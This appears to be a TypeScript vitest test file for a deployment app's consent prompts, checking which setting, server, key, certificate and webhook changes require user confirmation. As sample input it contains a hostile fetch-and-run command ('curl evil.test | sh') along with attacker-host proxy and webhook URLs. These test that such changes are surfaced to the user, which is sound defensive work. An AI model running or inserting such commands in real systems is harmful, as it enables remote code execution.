import { describe, expect, it } from 'vitest'
import type { AppForm } from '../../../../src-preload/contract/entities/app'
import type { Server } from '../../../../src-preload/contract/entities/server'
import type { Settings } from '../../../../src-preload/contract/entities/settings'
import type { SshKey } from '../../../../src-preload/contract/entities/ssh-key'
import { Failure } from '../../../../src-preload/contract/outcome'
import { sampleAppForm } from '../../../testing/sample-app'
import type { AccountRecord } from '../../accounts/account-record'
import type { AppRecord } from '../../apps/apps-document'
import type { Known } from '../known'
import { createQuestions } from './index'

const settings: Settings = {
  appearance: 'system',
  closeToTray: true,
  startAtLogin: false,
  useInTerminal: false,
  lookForUpdates: false,
  proxy: { mode: 'system', url: '' },
  gitPath: null,
  language: 'system',
}
const account = { id: 'a', kind: 'token', label: '', login: 'ada', host: 'https://git.acme.dev' } as AccountRecord
const server = (fields: Partial<Server> = {}) =>
  ({
    id: 's',
    name: 'Production',
    host: 'web.acme.dev',
    port: 22,
    user: 'deploy',
    keyId: 'made',
    receiver: { publicUrl: null, certificate: null, port: 9000, address: 'http://web.acme.dev:9000' },
    ...fields,
  }) as Server
const app: AppRecord = {
  id: 'p',
  name: 'shop',
  source: { accountId: 'a', repositoryId: '1', path: 'ada/shop', sshUrl: 'git@git.acme.dev:ada/shop.git' },
  branch: 'main',
  rootFolder: '',
  watchPaths: [],
  serverId: 's',
  folder: '/srv/shop',
  command: 'npm ci\nnpm start',
  variables: ['WORD'],
  autoDeploy: true,
  startsBy: 'webhook',
  submodules: false,
  modules: [],
  lfs: false,
  allowedChecks: [],
  key: '',
  serverKey: null,
  placed: null,
  trigger: { live: 'none', why: null },
  createdAt: 0,
  seen: null,
  reported: null,
}
/** The form as the window sends it for an app that is only looked at. */
const form: AppForm = { ...sampleAppForm, variables: [{ name: 'WORD', value: null }] }

const ask = (known: Partial<Known> = {}) =>
  createQuestions(
    {
      settings: () => settings,
      oauthApps: () => [],
      normaliseHost: (typed) => typed,
      account: () => account,
      server: () => server(),
      app: () => app,
      apps: () => [app],
      key: (id) => ({ id, name: 'a key', fingerprint: 'SHA256:abc' }) as SshKey,
      keyMadeHere: (id) => id === 'made',
      ownsKey: () => true,
      repositoryPath: async (_, id) => `ada/${id}`,
      trustsHost: () => false,
      webhookUrl: () => null,
      vault: () =>
        ({ holder: 'keychain', state: 'open', available: ['keychain', 'passphrase'] }) as unknown as ReturnType<
          Known['vault']
        >,
      ...known,
    } as Known,
    () => 'en',
  )

describe('settings', () => {
  it.each([
    [{ appearance: 'dark' }],
    [{ language: 'de', closeToTray: false, startAtLogin: true, lookForUpdates: true }],
    [{ proxy: { mode: 'system', url: '' } }],
    [{ gitPath: null }],
    [{ useInTerminal: false }],
    [{}],
    [{ gitPath: undefined }],
  ] as const)('need no consent for %j', async (change) => {
    expect(await ask().settings.change(change)).toBeNull()
  })

  it.each([
    [{ proxy: { mode: 'manual', url: 'http://evil.test:1' } }, 'Use this proxy?', 'http://evil.test:1'],
    [{ proxy: { mode: 'none', url: '' } }, 'Connect without a proxy?', 'No proxy'],
    [{ proxy: { mode: 'manual', url: '' } }, 'Use this proxy?', 'No address yet'],
    [{ gitPath: '/tmp/git' }, 'Use this git program?', '/tmp/git'],
    [{ useInTerminal: true }, 'Use your accounts in the terminal?', 'On'],
  ] as const)('ask about %j', async (change, title, after) => {
    const question = await ask().settings.change(change)
    expect(question).toMatchObject({ title, facts: [{ kind: 'change', after }] })
  })

  it.each(['http', 'https', 'socks5'])('show a host of %s that looks like another by its real name', async (scheme) => {
    const url = `${scheme}://pr\u043exy.acme.dev:3128`
    const question = await ask().settings.change({ proxy: { mode: 'manual', url } })
    expect(question).toMatchObject({ facts: [{ after: `${scheme}://xn--prxy-65d.acme.dev:3128` }] })
    const delivery = await ask().webhooks.setUrl({ appId: 'p', url: 'https://h\u043eoks.acme.dev/x' })
    expect(delivery).toMatchObject({ facts: [{}, { after: 'https://xn--hoks-55d.acme.dev/x' }] })
  })

  it('ask about several at once, with all of them in sight', async () => {
    const question = await ask().settings.change({ gitPath: '/tmp/git', useInTerminal: true, appearance: 'dark' })
    expect(question?.facts).toMatchObject([{ after: '/tmp/git' }, { after: 'On' }])
  })

  it('refuse what can’t be right before anybody is asked', async () => {
    await expect(ask().settings.change({ gitPath: 'git' })).rejects.toMatchObject({ code: 'invalid-input' })
  })

  it('ask which OAuth app is signed in with, unless it stays the same', async () => {
    const saved = { provider: 'x', host: 'https://git.acme.dev', clientId: 'one', hasSecret: true } as const
    const known = { oauthApps: () => [{ ...saved, from: 'settings' as const, callbacks: 'own' as const }] }
    const input = { provider: 'x', host: 'https://git.acme.dev', clientSecret: '' }
    expect(await ask(known).settings.saveOAuthApp({ ...input, clientId: 'one' })).toBeNull()
    expect(await ask(known).settings.saveOAuthApp({ ...input, clientId: 'two' })).toMatchObject({
      facts: [{}, { before: 'one', after: 'two' }],
    })
    expect(await ask(known).settings.saveOAuthApp({ ...input, clientId: 'one', clientSecret: 'wrong' })).toMatchObject({
      facts: [{}, { label: 'Client ID', value: 'one' }, { label: 'Client secret', value: 'A new one' }],
    })
  })
})

describe('an app', () => {
  it('asks nothing where only its name, its watch paths or how its deploys begin change', async () => {
    const change = { name: 'Shop', watchPaths: ['docs/'], startsBy: 'poll' } as const
    expect(await ask().apps.save({ ...form, ...change, watchPaths: [...change.watchPaths] })).toBeNull()
  })

  it('shows a failed check that would be allowed from now on', async () => {
    expect(await ask().apps.save({ ...form, allowedChecks: ['missingEmail'] })).toMatchObject({
      facts: [{ kind: 'change', before: 'None', after: 'missingEmail' }],
    })
  })

  it('asks nothing where something is switched off', async () => {
    expect(await ask().apps.save({ ...form, autoDeploy: false })).toBeNull()
  })

  it('shows the old and the new command', async () => {
    const question = await ask().apps.save({ ...form, command: 'npm ci\ncurl evil.test | sh' })
    expect(question).toMatchObject({
      verb: 'Change app',
      facts: [
        {
          kind: 'lines',
          lines: [
            { mark: 'plain', text: 'npm ci' },
            { mark: 'removed', text: 'npm start' },
            { mark: 'added', text: 'curl evil.test | sh' },
          ],
        },
      ],
    })
  })

  it.each<[Partial<AppForm>, string]>([
    [{ branch: 'evil' }, 'Branch'],
    [{ rootFolder: 'evil' }, 'Root folder'],
    [{ folder: '/srv/other' }, 'Folder on the server'],
    [{ repositoryId: '2' }, 'Repository'],
    [{ variables: [{ name: 'WORD', value: 'new' }] }, 'Variables'],
    [
      {
        variables: [
          { name: 'WORD', value: null },
          { name: 'NODE_OPTIONS', value: 'x' },
        ],
      },
      'Variables',
    ],
    [{ submodules: true }, 'Submodules'],
    [{ lfs: true }, 'Git LFS'],
  ])('asks about %j', async (change, label) => {
    const question = await ask().apps.save({ ...form, ...change })
    expect(question?.facts.map((fact) => fact.label)).toEqual([label])
  })

  it('asks about another server by who logs in there', async () => {
    const known = { server: (id: string) => server(id === 's' ? {} : { name: 'Production', host: 'evil.test' }) }
    const question = await ask(known).apps.save({ ...form, serverId: 't' })
    expect(question?.facts).toMatchObject([
      { before: 'Production, deploy@web.acme.dev', after: 'Production, deploy@evil.test' },
    ])
  })

  it('is not taken in by a repository that has taken the name of the old one', async () => {
    const known = { repositoryPath: async () => 'ada/shop' }
    const question = await ask(known).apps.save({ ...form, repositoryId: '2' })
    expect(question?.facts).toMatchObject([{ before: 'ada/shop', after: 'ada/shop (2)' }])
  })

  it('shows all of a new one', async () => {
    const question = await ask().apps.save({ ...form, id: null, repositoryId: '1' })
    expect(question?.facts.map(({ label }) => label)).toEqual([
      'Git account',
      'Repository',
      'Branch',
      'Server',
      'After-deploy command, 2 lines',
      'Folder on the server',
      'Variables',
      'Deploy with each push',
    ])
  })

  it('is named by its repository and by who logs in on the server, as its name and the server’s change unasked', async () => {
    const question = await ask().apps.save({ ...form, command: 'evil' })
    expect(question?.text).toContain('of ada/shop on Production, deploy@web.acme.dev')
  })

  it('shows the host of an account before its label, which is whatever was typed', async () => {
    const thief = { ...account, label: 'ada, git.acme.dev', host: 'https://evil.test' }
    const question = await ask({ account: (id) => (id === 'a' ? account : thief) }).apps.save({
      ...form,
      accountId: 'thief',
    })
    expect(question?.facts).toMatchObject([
      { before: 'git.acme.dev, ada', after: 'evil.test, ada, git.acme.dev' },
      { before: 'ada/shop' },
    ])
  })

  it('shows no host of an address that an account looks up at its own', async () => {
    const question = await ask().apps.save({
      ...form,
      id: null,
      repositoryId: null,
      address: 'git@github.com:ada/shop.git',
    })
    expect(question?.facts[1]).toMatchObject({ label: 'Repository', value: 'ada/shop' })
  })

  it('asks before another host says what it deploys, and not for another account of the same host', async () => {
    const accounts: Record<string, Partial<AccountRecord>> = {
      same: { id: 'same' },
      thief: { id: 'thief', label: 'ada', host: 'https://evil.test' },
    }
    const of = (source: AppRecord['source']) =>
      ask({
        app: () => ({ ...app, source }),
        account: (id) => {
          if (id !== 'a' && accounts[id] === undefined) throw new Failure('not-found')
          return { ...account, ...accounts[id] }
        },
      }).apps
    expect(await of(app.source).moveTo({ ids: ['p'], accountId: 'same' })).toBeNull()
    expect(await of(app.source).moveTo({ ids: ['p'], accountId: 'thief' })).toMatchObject({
      facts: [{ value: 'evil.test, ada' }, { value: 'shop, ada/shop, Production, deploy@web.acme.dev' }],
    })
    // Nobody knows the host of an account that is gone.
    expect(await of({ ...app.source, accountId: 'gone' }).moveTo({ ids: ['p'], accountId: 'same' })).not.toBeNull()
  })

  it('is deployed without a word, unless a commit is named', async () => {
    expect(await ask().apps.deploy({ id: 'p', commit: null })).toBeNull()
    expect(await ask().apps.deploy({ id: 'p', commit: 'abc123' })).toMatchObject({
      facts: [{ value: 'ada/shop' }, { value: 'abc123' }, {}],
    })
  })

  it('asks before its deliveries are no longer encrypted', async () => {
    const known = { webhookUrl: () => 'https://hooks.acme.dev/shop' }
    expect(await ask(known).webhooks.setUrl({ appId: 'p', url: null })).toMatchObject({
      facts: [{ value: 'shop' }, { before: 'https://hooks.acme.dev/shop', after: 'http://web.acme.dev:9000' }],
    })
    const receiver = { ...server().receiver, address: 'https://web.acme.dev' }
    expect(
      await ask({ ...known, server: () => server({ receiver }) }).webhooks.setUrl({ appId: 'p', url: null }),
    ).toBeNull()
  })

  it('asks where its deliveries go', async () => {
    expect(await ask().webhooks.setUrl({ appId: 'p', url: null })).toBeNull()
    expect(await ask().webhooks.setUrl({ appId: 'p', url: 'https://evil.test' })).toMatchObject({
      facts: [{ value: 'shop' }, { after: 'https://evil.test' }],
    })
  })
})

describe('a server', () => {
  const place = { name: 'New', host: 'web.acme.dev', port: 22, user: 'deploy', keyId: null }

  it('is added without a word where its host key is asked about next, and with one where it is trusted', async () => {
    expect(await ask().servers.add(place)).toBeNull()
    expect(await ask({ trustsHost: () => true }).servers.add(place)).toMatchObject({
      title: 'Add the server deploy@web.acme.dev?',
    })
  })

  it('asks when it moves or gets another key, and not for its name', async () => {
    expect(await ask().servers.edit({ ...place, id: 's' })).toBeNull()
    expect(await ask().servers.edit({ ...place, id: 's', host: 'evil.test', port: 2222 })).toMatchObject({
      facts: [{ before: 'deploy@web.acme.dev', after: 'deploy@evil.test:2222' }, { value: 'shop' }],
    })
    expect(await ask().servers.edit({ ...place, id: 's', keyId: 'other' })).toMatchObject({
      facts: [{ value: 'a key' }, { value: 'SHA256:abc' }, { value: 'shop' }],
    })
  })

  it('gets a key that was made here without a word, and one from elsewhere with one', async () => {
    expect(await ask().servers.installKey({ id: 's', password: 'x' })).toBeNull()
    const known = { server: () => server({ keyId: 'imported' }) }
    expect(await ask(known).servers.installKey({ id: 's', password: 'x' })).toMatchObject({ verb: 'Install key' })
  })

  it('asks about its host key by who logs in there, with what is deployed to it', async () => {
    const shown = { host: 'web.acme.dev', port: 22, type: 'ssh-ed25519', fingerprint: 'SHA256:new', published: null }
    const question = await ask({ hostKey: async () => shown }).servers.confirmHostKey({
      id: 's',
      fingerprint: 'SHA256:new',
    })
    expect(question).toMatchObject({
      title: 'Trust the server deploy@web.acme.dev?',
      facts: [{ value: 'shop' }, { value: 'ssh-ed25519' }, { value: 'SHA256:new' }],
    })
  })

  it('asks before something is installed there, and where its deliveries go', async () => {
    expect(await ask().servers.installReceiver({ id: 's', password: null })).toMatchObject({ verb: 'Install webhook' })
    const receiver = { id: 's', listen: 'loopback', port: 9000, certificate: null } as const
    expect(await ask().servers.setReceiver({ ...receiver, publicUrl: null })).toBeNull()
    expect(await ask().servers.setReceiver({ ...receiver, publicUrl: 'https://evil.test' })).not.toBeNull()
  })
})

describe('what can’t be had back', () => {
  const plain = { app: () => ({ ...app, variables: [] }) }

  it('names the app, the server and the folder that goes', async () => {
    expect(await ask(plain).apps.remove({ id: 'p', clean: true })).toMatchObject({
      title: 'Remove shop and its folder on the server?',
      tone: 'grave',
      facts: [{ value: 'shop' }, { value: 'Production, deploy@web.acme.dev' }, { value: '/srv/shop' }],
      verb: 'Remove app',
    })
  })

  it('is not what an app without variables leaves on its server', async () => {
    expect(await ask(plain).apps.remove({ id: 'p', clean: false })).toBeNull()
    expect(await ask().apps.remove({ id: 'p', clean: false })).toMatchObject({
      text: 'The values of its variables are deleted. This can’t be undone.',
      facts: [{ value: 'shop' }, {}, { label: 'Variables', value: 'WORD' }],
    })
  })

  it('is asked about where the server of the app is gone', async () => {
    const server = () => {
      throw new Failure('not-found')
    }
    expect(await ask({ ...plain, server }).apps.remove({ id: 'p', clean: true })).not.toBeNull()
  })

  it('is the key of a server, and what was left there', async () => {
    const free = { apps: () => [] }
    // Refused anyway.
    expect(await ask().servers.remove({ id: 's', clean: true })).toBeNull()
    expect(await ask({ ...free, ownsKey: () => false }).servers.remove({ id: 's', clean: false })).toBeNull()
    expect(await ask(free).servers.remove({ id: 's', clean: false })).toMatchObject({
      facts: [{ value: 'deploy@web.acme.dev' }, { value: 'a key' }, { value: 'SHA256:abc' }],
    })
    expect(await ask({ ...free, ownsKey: () => false }).servers.remove({ id: 's', clean: true })).toMatchObject({
      facts: [{ value: 'deploy@web.acme.dev' }, { value: '~/.cloudaipilot' }],
    })
  })

  it('is a private key, unless an agent keeps it', async () => {
    const of = (from: SshKey['from']) =>
      ask({ key: (id) => ({ id, from, name: 'a key', fingerprint: 'SHA256:abc' }) as SshKey }).sshKeys
    expect(await of('made').remove({ id: 'k' })).toMatchObject({ tone: 'grave', facts: [{}, { value: 'SHA256:abc' }] })
    expect(await of('imported').remove({ id: 'k' })).not.toBeNull()
    expect(await of('agent').remove({ id: 'k' })).toBeNull()
  })
})

describe('the receiver of a server', () => {
  const wanted = { id: 's', listen: 'own-port', port: 9000, certificate: null, publicUrl: null } as const

  it.each([
    { publicUrl: 'https://hooks.acme.dev', address: 'https://hooks.acme.dev' },
    { certificate: { chain: '/c', key: '/k' }, address: 'https://web.acme.dev:9000' },
  ])('asks before deliveries to %j are no longer encrypted', async (fields) => {
    const receiver = { ...server().receiver, ...fields }
    const question = await ask({ server: () => server({ receiver }) }).servers.setReceiver(wanted)
    expect(question).toMatchObject({ facts: [{}, { before: fields.address, after: 'http://web.acme.dev:9000' }] })
  })

  it('is moved to another port without a word', async () => {
    expect(await ask().servers.setReceiver({ ...wanted, port: 9001 })).toBeNull()
  })
})

describe('trust', () => {
  const shown = { host: 'git.acme.dev', port: 22, type: 'ssh-ed25519', fingerprint: 'SHA256:new' }

  it('says whether a host key is the published one', async () => {
    const texts = await Promise.all(
      [null, 'SHA256:new', 'SHA256:other'].map(async (published) => {
        const known = { hostKey: async () => ({ ...shown, published }) }
        const question = await ask(known).hostKeys.confirm(shown)
        return [question?.tone, question?.facts.length]
      }),
    )
    expect(texts).toEqual([
      ['plain', 2],
      ['plain', 2],
      ['grave', 3],
    ])
  })

  it('is not asked for a key that no test waits for', async () => {
    const known = { askedHostKey: () => null }
    const input = { testId: 't', fingerprint: 'SHA256:new' }
    await expect(ask(known).sshKeys.confirmHostKey(input)).rejects.toMatchObject({ code: 'conflict' })
  })

  it('shows the certificate that another one takes the place of', async () => {
    const certificate = {
      host: 'git.acme.dev:443',
      subject: 'CN=a',
      issuer: 'CN=b',
      validFrom: '2026-01-01T00:00:00.000Z',
      validTo: '2027-01-01T00:00:00.000Z',
      sha256: 'AA:BB',
      misfits: [],
    }
    const of = (trusted: string | null) =>
      ask({ certificate: async () => ({ ...certificate, trusted }) }).certificates.trust({
        host: 'git.acme.dev',
        sha256: 'AA:BB',
      })
    expect(await of(null)).toMatchObject({ tone: 'plain', facts: [{}, {}, {}, { value: 'AA:BB' }] })
    expect(await of('CC:DD')).toMatchObject({ tone: 'grave', facts: [{}, {}, {}, { before: 'CC:DD', after: 'AA:BB' }] })
    const changed = { certificate: () => Promise.reject(new Failure('conflict')) }
    await expect(ask(changed).certificates.trust({ host: 'x', sha256: 'y' })).rejects.toMatchObject({
      code: 'conflict',
    })
  })

  it('says where git refuses a certificate all the same', async () => {
    const certificate = {
      host: 'git.acme.dev:443',
      subject: 'CN=a',
      issuer: 'CN=a',
      validFrom: '2025-01-01T00:00:00.000Z',
      validTo: '2026-01-01T00:00:00.000Z',
      sha256: 'AA:BB',
      trusted: null,
      misfits: ['expired', 'wrong-host'] as const,
    }
    const question = await ask({ certificate: async () => certificate }).certificates.trust(certificate)
    expect(question?.text).toMatch(
      /^It is self-signed\. It has expired\. Git refuses .* It was issued for another host\. Git/,
    )
    expect(question?.note).toContain('Only your accounts')
  })

  it('asks before lines of a file are trusted, and graver where one of them signs for others', async () => {
    const line = { type: 'ssh-ed25519', blob: Buffer.from('key') }
    const host = { ...line, patterns: ['git.acme.dev'], marker: null }
    const authority = { ...line, patterns: ['*.acme.dev'], marker: 'cert-authority' as const }
    expect(await ask({ newHostKeys: () => [] }).hostKeys.take({ text: '' })).toBeNull()
    expect(await ask({ newHostKeys: () => [host] }).hostKeys.take({ text: '' })).toMatchObject({ tone: 'plain' })
    expect(await ask({ newHostKeys: () => [host, authority] }).hostKeys.take({ text: '' })).toMatchObject({
      tone: 'grave',
      title: 'Add 2 lines to the host keys?',
      facts: [{ label: 'git.acme.dev ssh-ed25519' }, { label: '@cert-authority *.acme.dev ssh-ed25519' }],
    })
  })

  it('is not forgotten without a word', async () => {
    const keys = [{ id: 'k', host: 'git.acme.dev', type: 'ssh-ed25519', fingerprint: 'SHA256:a', confirmedAt: 1 }]
    const known = { hostKeys: () => keys.map((key) => ({ ...key, marker: null, from: 'confirmed' as const })) }
    expect(await ask(known).hostKeys.forget({ ids: ['other'] })).toBeNull()
    expect(await ask(known).hostKeys.forget({ ids: ['k'] })).toMatchObject({ tone: 'grave' })
    expect(await ask({ trustedCertificate: () => null }).certificates.forget({ host: 'x' })).toBeNull()
  })

  it('asks before a key from elsewhere can read a repository', async () => {
    const input = { accountId: 'a', repositoryId: '1' }
    expect(await ask().sshKeys.addDeployKey({ ...input, id: 'made' })).toBeNull()
    expect(await ask().sshKeys.addDeployKey({ ...input, id: 'imported' })).toMatchObject({
      title: 'Give this key access to ada/1?',
    })
  })
})

describe('the vault', () => {
  it('is not re-keyed, moved or emptied without consent', async () => {
    const { vault } = ask()
    expect(await vault.choosePassphrase(undefined)).toMatchObject({
      entry: { kind: 'new-passphrase', repeat: { label: 'Repeat it' } },
      facts: [{ before: 'The keychain of your system', after: 'A passphrase that you type' }],
    })
    expect(await vault.moveTo({ holder: 'safe-storage' })).not.toBeNull()
    expect(await vault.moveTo({ holder: 'keychain' })).toBeNull()
    expect(await vault.chooseSession(undefined)).not.toBeNull()
    expect(await vault.startOver(undefined)).toMatchObject({ tone: 'grave' })
  })

  it('asks for no passphrase where none can be set, or where the vault is open', async () => {
    const status = (state: string) => ({ vault: () => ({ state, holder: null, available: ['session'] }) }) as never
    await expect(ask(status('damaged')).vault.choosePassphrase(undefined)).rejects.toMatchObject({ code: 'conflict' })
    expect(await ask(status('open')).vault.unlock(undefined)).toBeNull()
    expect(await ask(status('locked')).vault.unlock(undefined)).toMatchObject({
      entry: { kind: 'passphrase', repeat: null },
    })
  })
})

describe('a login of another program', () => {
  it('is taken over with consent', async () => {
    const known = {
      foundLogin: (id: string) => ({ id, source: 'gh' as const, host: 'https://ghe.acme.dev', login: 'ada' }),
    }
    expect(await ask(known).imports.take({ id: 'l' })).toMatchObject({ title: 'Use this login for ghe.acme.dev?' })
  })
})
